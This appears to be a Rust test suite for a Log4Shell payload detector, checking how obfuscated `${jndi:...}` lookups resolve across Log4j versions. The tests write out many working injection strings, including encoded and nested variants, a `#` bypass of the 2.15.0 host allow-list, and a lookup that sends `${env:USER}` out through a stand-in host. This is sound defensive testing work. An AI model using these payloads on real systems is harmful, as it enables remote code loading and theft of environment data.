//! One test (or a few) per substitution rule. Expected values are worked out
//! by hand from the rule stated above each test, not taken from a run.
use super::*;
use alloc::string::ToString;
use alloc::vec;

fn raw(text: &str) -> Inspection {
    inspect(text, Context::Raw)
}

fn verdict(text: &str) -> Verdict {
    raw(text).verdict
}

fn under(text: &str, p: Profile) -> Verdict {
    let i = raw(text);
    match i.profiles.iter().find(|o| o.profile == p) {
        Some(o) => o.verdict,
        None => Verdict::Clean,
    }
}

fn has(i: &Inspection, t: Technique) -> bool {
    i.techniques.contains(&t)
}

// Only a raw `${` starts a lookup.
#[test]
fn needs_raw_dollar_brace() {
    assert_eq!(verdict("${jndi:ldap://h/a}"), Verdict::Live);
    assert_eq!(verdict("$ {jndi:ldap://h/a}"), Verdict::Clean);
    assert_eq!(verdict("{jndi:ldap://h/a}"), Verdict::Clean);
    assert_eq!(verdict("jndi:ldap://h/a"), Verdict::Clean);
}

// `}` closes the innermost open `${`; a bare `{` does not open anything, so
// the first `}` after it closes the lookup.
#[test]
fn bare_brace_does_not_nest() {
    let i = raw("${jndi:ldap://h/{a}b}");
    assert_eq!(i.verdict, Verdict::Live);
    assert_eq!(i.jndi.as_deref(), Some("ldap://h/{a"));
    // Extra closing braces after a complete lookup are plain text.
    assert_eq!(raw("${jndi:ldap://h/a}}}").jndi.as_deref(), Some("ldap://h/a"));
}

// `$${` is an escape: the `$` is dropped and the `${` left as text.
#[test]
fn escape_keeps_lookup_as_text() {
    let i = raw("$${jndi:ldap://h/a}");
    assert_ne!(i.verdict, Verdict::Live);
    for p in [Profile::V2_0, Profile::V2_8, Profile::V2_13, Profile::V2_15] {
        assert_eq!(under("$${jndi:ldap://h/a}", p), Verdict::Clean, "{p:?}");
    }
    // An escaped lookup is still a probe for someone trying Log4Shell.
    assert_eq!(i.verdict, Verdict::Attempt);
    assert_eq!(i.reason, Some(Reason::BrokenProbe));
}

// Names are substituted before use (2.8+); before 2.8 they are not.
#[test]
fn nested_names_resolved_first() {
    let t = "${${::-j}ndi:ldap://h/a}";
    assert_eq!(verdict(t), Verdict::Live);
    assert_eq!(under(t, Profile::V2_8), Verdict::Live);
    assert_eq!(under(t, Profile::V2_0), Verdict::Clean);
    assert!(has(&raw(t), Technique::NestedName));
}

// The first `:-` splits name from default; the first `:` splits prefix from
// key. `${jndi:ldap://h/${a:-b:-c}}`: the inner default is `b:-c`, so the
// outer name is `jndi:ldap://h/b:-c`, whose own first `:-` leaves the
// name `jndi:ldap://h/b`.
#[test]
fn first_default_and_prefix_separators() {
    assert_eq!(raw("${jndi:ldap://h/${a:-b:-c}}").jndi.as_deref(), Some("ldap://h/b"));
    assert_eq!(raw("${jndi:ldap://h:1389/a}").jndi.as_deref(), Some("ldap://h:1389/a"));
    assert_eq!(raw("${jndi:ldap://h:1389/a}").host.as_deref(), Some("h"));
}

// Unknown prefixes and null lookups fall back to the default.
#[test]
fn defaults_for_unknown_and_null() {
    let unknown = raw("${${foo:bar:-j}ndi:ldap://h/a}");
    assert_eq!(unknown.verdict, Verdict::Live);
    assert!(has(&unknown, Technique::DefaultFallback));
    assert_eq!(verdict("${${env:NOPE:-j}ndi:ldap://h/a}"), Verdict::Live);
    assert_eq!(verdict("${${:-j}ndi:ldap://h/a}"), Verdict::Live);
    assert_eq!(verdict("${${::-j}${::-n}${::-d}${::-i}:ldap://h/a}"), Verdict::Live);
}

// An empty value is not null: it replaces the lookup and the default is
// not used. `${upper::-n}` is `upper` of "" in 2.13+ (so `jdi:`, no JNDI),
// and an unknown prefix before 2.13 (so the default `n`, JNDI reached).
#[test]
fn empty_is_not_null() {
    assert_eq!(verdict("${${lower:}jndi:ldap://h/a}"), Verdict::Live);
    let t = "${j${upper::-n}di:ldap://h/a}";
    assert_eq!(under(t, Profile::V2_13), Verdict::Clean);
    assert_eq!(under(t, Profile::V2_8), Verdict::Live);
    assert_eq!(verdict("${j${::-}ndi:ldap://h/a}"), Verdict::Live);
}

// `lower`/`upper` exist from 2.13; prefixes are lowercased from 2.8.
#[test]
fn case_lookups_and_prefix_case() {
    let t = "${${lower:JNDI}:ldap://h/a}";
    assert_eq!(under(t, Profile::V2_13), Verdict::Live);
    assert_eq!(under(t, Profile::V2_8), Verdict::Clean);
    assert!(has(&raw(t), Technique::NestedLower));
    let mixed = "${jNdI:ldap://h/a}";
    assert_eq!(under(mixed, Profile::V2_8), Verdict::Live);
    assert_eq!(under(mixed, Profile::V2_0), Verdict::Clean);
    assert!(has(&raw(mixed), Technique::PrefixCase));
    // `upper` of `ldap` is `LDAP`, which the JDK has no context for.
    assert_eq!(verdict("${jndi:${upper:ldap}://h/a}"), Verdict::Attempt);
}

// Java's `toUpperCase` maps U+0131 (dotless i) to ASCII `I`; the prefix
// `jndI` is then lowercased to `jndi`.
#[test]
fn dotless_i() {
    let i = raw("${jnd${upper:\u{131}}:ldap://h/a}");
    assert_eq!(i.verdict, Verdict::Live);
    assert!(has(&i, Technique::DotlessI));
}

// `date` formats the event time with `SimpleDateFormat`: quoted text comes
// out literally; a pattern with an invalid letter is replaced by the
// default format, so nothing of the key survives.
#[test]
fn date_lookup() {
    let i = raw("${${date:'j'}ndi:ldap://h/a}");
    assert_eq!(i.verdict, Verdict::Live);
    assert!(has(&i, Technique::DateLiteral));
    assert_eq!(verdict("${jn${date:'d'}i:ldap://h/a}"), Verdict::Live);
    // `''` is a literal quote, inside or outside quoted text.
    assert_eq!(raw("${jndi:ldap://h/${date:'it''s'}}").jndi.as_deref(), Some("ldap://h/it's"));
    // `j` is not a pattern letter: the real versions never see `jndi`, the
    // probe reading (date taken literally) does.
    let broken = raw("${${date:j}ndi:ldap://h/a}");
    assert_eq!(broken.verdict, Verdict::Attempt);
    assert_eq!(broken.reason, Some(Reason::BrokenProbe));
    assert!(has(&broken, Technique::DateUnquoted));
    // `d` is a pattern letter: a day number, not `d`.
    assert_ne!(verdict("${jn${date:d}i:ldap://h/a}"), Verdict::Live);
}

// Lookups the attacker cannot set: only their defaults matter; without a
// default they stand for some value from the environment.
#[test]
fn uncontrolled_lookups() {
    for p in ["env", "sys", "ctx", "main", "k8s", "docker", "bundle", "web", "spring", "jvmrunargs"] {
        let t = alloc::format!("${{j${{{p}:whatever:-nd}}i:ldap://h/a}}");
        assert_eq!(verdict(&t), Verdict::Live, "{t}");
    }
    let exfil = raw("${jndi:ldap://${env:USER}.h.example/a}");
    assert_eq!(exfil.verdict, Verdict::Live);
    assert_eq!(exfil.jndi.as_deref(), Some("ldap://${env:USER}.h.example/a"));
    assert_eq!(exfil.host.as_deref(), Some("${env:USER}.h.example"));
    assert!(has(&exfil, Technique::Exfiltration));
    // `file.separator` is `/` on every Unix JVM.
    assert_eq!(verdict("${jndi:rmi:${sys:file.separator}${sys:file.separator}h/a}"), Verdict::Live);
}

// Resolved values are scanned again, which undoes an escape in a default
// or in a lookup's result.
#[test]
fn values_rescanned() {
    let d = raw("${::-$${jndi:ldap://h/a}}");
    assert_eq!(d.verdict, Verdict::Live);
    assert!(has(&d, Technique::EscapeUndone));
    assert_eq!(under("${lower:$${jndi:ldap://h/a}}", Profile::V2_13), Verdict::Live);
}

// The message converter (before 2.15) substitutes the whole message again
// when a `${` appears after the place it last triggered.
#[test]
fn message_converter_rescan() {
    let t = "${hostName} $${jndi:ldap://h/a}";
    let i = raw(t);
    assert_eq!(i.verdict, Verdict::Live);
    assert!(has(&i, Technique::MessageRescan));
    assert_eq!(under(t, Profile::V2_15), Verdict::Clean);
    // A default that rebuilds `${` after the trigger point is re-run...
    assert_eq!(under("${::-a}${::-$}{jndi:ldap://h/a}", Profile::V2_13), Verdict::Live);
    // ...one that rebuilds it *at* the trigger point is not: the scan goes on
    // after that point.
    assert_eq!(under("${::-$}{jndi:ldap://h/a}", Profile::V2_13), Verdict::Clean);
}

// Log4j's cycle check throws on a name already being resolved: the event
// is dropped, no lookup is made, so the verdict is clean and the profiles
// say why.
#[test]
fn cycle_is_recorded_not_flagged() {
    let i = raw("${${::-${::-$${::-j}}}}");
    assert_eq!(i.verdict, Verdict::Clean);
    let p = raw("${J:-${J}}");
    assert_eq!(p.verdict, Verdict::Clean);
    let q = inspect_profiles("${J:-${J}}");
    assert!(q.iter().any(|o| o.reason == Some(Reason::Recursion)));
}

fn inspect_profiles(text: &str) -> Vec<ProfileOutcome> {
    evaluate(text, &[], &Budgets::default()).map(|r| r.profiles).unwrap_or_default()
}

// Budgets: exceeding any gives `attempt` with the reason.
#[test]
fn budgets() {
    let mut deep = String::new();
    for _ in 0..200 {
        deep.push_str("${lower:");
    }
    deep.push('j');
    for _ in 0..200 {
        deep.push('}');
    }
    let i = raw(&deep);
    assert_eq!(i.verdict, Verdict::Attempt);
    assert_eq!(i.reason, Some(Reason::DepthBudget));

    let tight = Budgets { max_steps: 50, ..Budgets::default() };
    let s = inspect_with("${lower:jjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjj}", Context::Raw, &tight);
    assert_eq!(s.reason, Some(Reason::StepBudget));

    let short = Budgets { max_len: 16, ..Budgets::default() };
    let l = inspect_with("${PORT:-8080} and jjj more text", Context::Raw, &short);
    assert_eq!(l.reason, Some(Reason::LengthBudget));
}

// Names the JDK would not connect with are `attempt`; `live` needs scheme
// ldap/ldaps/rmi/dns in that case, `//` and a host.
#[test]
fn jndi_classification() {
    for live in ["ldap://h/a", "ldaps://h/a", "rmi://h:1099/a", "dns://h/a", "ldap://127.0.0.1#evil.example/a"] {
        assert_eq!(verdict(&alloc::format!("${{jndi:{live}}}")), Verdict::Live, "{live}");
    }
    for local in [
        "LDAP://h/a",
        "ldap:/h/a",
        "ldap:///a",
        "iiop://h/a",
        "corba://h/a",
        "nis://h/a",
        "nds://h/a",
        "http://h/a",
        "ldap",
        "ldap://{{Hostname}}.h",
    ] {
        let i = raw(&alloc::format!("${{jndi:{local}}}"));
        assert_eq!(i.verdict, Verdict::Attempt, "{local}");
        assert_eq!(i.reason, Some(Reason::NoNetwork), "{local}");
    }
}

// 2.15.0 only allows local LDAP hosts; `#` gets past the check.
#[test]
fn v2_15_allowed_hosts() {
    let bypass = "${jndi:ldap://127.0.0.1#evil.example/a}";
    assert_eq!(under(bypass, Profile::V2_15), Verdict::Live);
    assert!(has(&raw(bypass), Technique::HashHost));
    assert_eq!(under("${jndi:ldap://evil.example/a}", Profile::V2_15), Verdict::Attempt);
    assert_eq!(under("${jndi:rmi://127.0.0.1#evil.example/a}", Profile::V2_15), Verdict::Attempt);
}

// Probes that cannot work as written are `attempt`.
#[test]
fn broken_probes() {
    let u = raw("${jndi:ldap://h/a");
    assert_eq!(u.verdict, Verdict::Attempt);
    assert!(has(&u, Technique::Unterminated));
    // An unterminated `${` hides everything after it from Log4j.
    assert_eq!(under("${a ${jndi:ldap://h/a}", Profile::V2_13), Verdict::Clean);
    let b = raw("${jn${base64:ZGk=}:ldap://h/a}");
    assert_eq!(b.verdict, Verdict::Attempt);
    assert!(has(&b, Technique::Base64Lookup));
}

// Placeholders of other template languages never reach JNDI.
#[test]
fn benign_placeholders() {
    for t in [
        "${PORT:${SERVER_PORT:8080}}",
        "${X:-${Y}}",
        "${HOME}/bin",
        "`${a ? `${b}` : c}`",
        "${{ secrets.TOKEN }}",
        "jndi.name=${jndi.name}",
        "${jndi}",
    ] {
        assert_eq!(verdict(t), Verdict::Clean, "{t}");
    }
}

// Decoders, one per context.
#[test]
fn decoders() {
    assert_eq!(inspect("%24%7Bjndi:ldap://h/a%7D", Context::Raw).verdict, Verdict::Clean);
    let u = inspect("%24%7Bjndi:ldap://h/a%7D", Context::Url);
    assert_eq!(u.verdict, Verdict::Live);
    assert_eq!(u.chain, vec![Decoder::Url]);
    assert!(has(&u, Technique::UrlEncoded));
    assert_eq!(inspect("${jndi:ldap://h/a+b}", Context::Url).jndi.as_deref(), Some("ldap://h/a b"));

    assert_eq!(inspect("\\u0024\\u007Bjndi:ldap://h/a}", Context::Json).verdict, Verdict::Live);
    // A surrogate pair is one character; a lone surrogate becomes U+FFFD.
    assert_eq!(Decoder::Json.apply("\\ud83d\\ude00").as_deref(), Some("\u{1F600}"));
    assert_eq!(Decoder::Json.apply("\\ud83dx").as_deref(), Some("\u{FFFD}x"));
    assert_eq!(Decoder::Json.apply("\\$").as_deref(), None);

    assert_eq!(inspect("&#36;&#x7b;jndi:ldap://h/a&rcub;", Context::Html).verdict, Verdict::Live);
    assert_eq!(inspect("&dollar;&lbrace;jndi:ldap://h/a&rcub;", Context::Html).verdict, Verdict::Live);
    assert_eq!(Decoder::Html.apply("$&LBRACE;x"), None);
    assert_eq!(Decoder::Html.apply("&#0000000000000000000000123;").as_deref(), Some("{"));

    // base64("u:${jndi:ldap://h/a}")
    let b = "dToke2puZGk6bGRhcDovL2gvYX0=";
    assert_eq!(inspect(b, Context::BasicAuth).verdict, Verdict::Live);
    let header = alloc::format!("Authorization: Basic {b}");
    assert_eq!(inspect(&header, Context::BasicAuth).verdict, Verdict::Live);
    assert_eq!(inspect(&header, Context::Any).chain, vec![Decoder::BasicAuth]);
}

// `any` tries chains of decoders; the same decoder twice caps at attempt.
#[test]
fn any_context_chains() {
    let i = inspect("\\u002524%7Bjndi:ldap://h/a%7D", Context::Any);
    assert_eq!(i.verdict, Verdict::Live);
    assert_eq!(i.chain, vec![Decoder::Json, Decoder::Url]);
    let twice = inspect("%2524%257Bjndi:ldap://h/a%257D", Context::Any);
    assert_eq!(twice.verdict, Verdict::Attempt);
    assert_eq!(twice.reason, Some(Reason::DoubleEncoded));
}

// The span is the payload's byte range in the input, through decoding.
#[test]
fn spans() {
    let t = "xx ${jndi:ldap://h/a} yy";
    assert_eq!(raw(t).span, Some((3, 21)));
    let q = "q=%24%7Bjndi:ldap://h/a%7D&x=1";
    let i = inspect(q, Context::Url);
    assert_eq!(i.span, Some((2, 26)));
    assert_eq!(&q[2..26], "%24%7Bjndi:ldap://h/a%7D");
    // Through three decoders, back to the whole input.
    let m = r"x %24&lcub;\u006A&#110;di:ldap://h/a} y";
    let j = inspect(m, Context::Any);
    assert_eq!(j.verdict, Verdict::Live);
    assert_eq!(j.chain.len(), 3);
    assert_eq!(j.span, Some((2, m.len() - 2)));
}

// The prefilter: text without `$` (or an encoded one) is clean at once.
#[test]
fn prefilter_skips() {
    let i = inspect("GET /index.html HTTP/1.1", Context::Any);
    assert_eq!(i.verdict, Verdict::Clean);
    assert!(i.profiles.is_empty());
    assert!(!prefilter(b"a=1&b=2", Context::Any));
    assert!(!prefilter(b"q=red%20shoes%2Fsale&x=\\u00e9", Context::Any));
    assert!(prefilter(b"%2524", Context::Any));
    assert!(prefilter(b"\\u0024", Context::Any));
    assert!(prefilter(b"&#36;", Context::Any));
    // No `j` anywhere: no profile can spell `jndi`.
    assert!(evaluate("${lower:NDI}", &[], &Budgets::default()).is_none());
    assert!(prefilter(b"%24", Context::Url));
    assert!(!prefilter(b"%2F", Context::Url));
}

#[test]
fn serialises_names() {
    assert_eq!(Profile::V2_13.as_str(), "2.13-2.14");
    assert_eq!(Technique::DotlessI.as_str(), "dotless-i");
    assert_eq!(Context::from_name("basic-auth"), Some(Context::BasicAuth));
    assert_eq!(Decoder::BasicAuth.as_str().to_string(), "basic-auth");
}

// `evaluate` reads the 2.15 and probe results off the 2.13-2.14 run when it
// can; that shortcut must agree with running them, on every labelled string.
#[test]
fn derived_profiles_match_full_runs() {
    let dir = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../shared/payloads");
    let b = Budgets::default();
    let mut n = 0;
    for file in ["malicious.tsv", "benign.tsv"] {
        let body = std::fs::read_to_string(dir.join(file)).expect("payload file");
        for line in body.lines().skip(1) {
            let text = line.split('\t').next().unwrap_or("").replace("\\n", "\n");
            let base = Eval::new(Profile::V2_13.rules(), &b).run(&text);
            let full15 = judge(Profile::V2_15, &Eval::new(Profile::V2_15.rules(), &b).run(&text), &text);
            let part15 = judge(Profile::V2_15, &first_pass(&base), &text);
            assert_eq!((full15.verdict, &full15.jndi), (part15.verdict, &part15.jndi), "2.15: {text}");
            if !base.case_lookup_seen {
                let full = judge(Profile::V2_8, &Eval::new(Profile::V2_8.rules(), &b).run(&text), &text);
                let part = judge(Profile::V2_8, &base, &text);
                assert_eq!((full.verdict, &full.jndi), (part.verdict, &part.jndi), "2.8: {text}");
            }
            if !base.probe_relevant && eval::unclosed(&text) == 0 {
                let full = judge(Profile::Probe, &Eval::new(Profile::Probe.rules(), &b).run(&text), &text);
                let part = judge(Profile::Probe, &base, &text);
                assert_eq!((full.verdict, &full.jndi), (part.verdict, &part.jndi), "probe: {text}");
            }
            n += 1;
        }
    }
    assert!(n > 100);
}
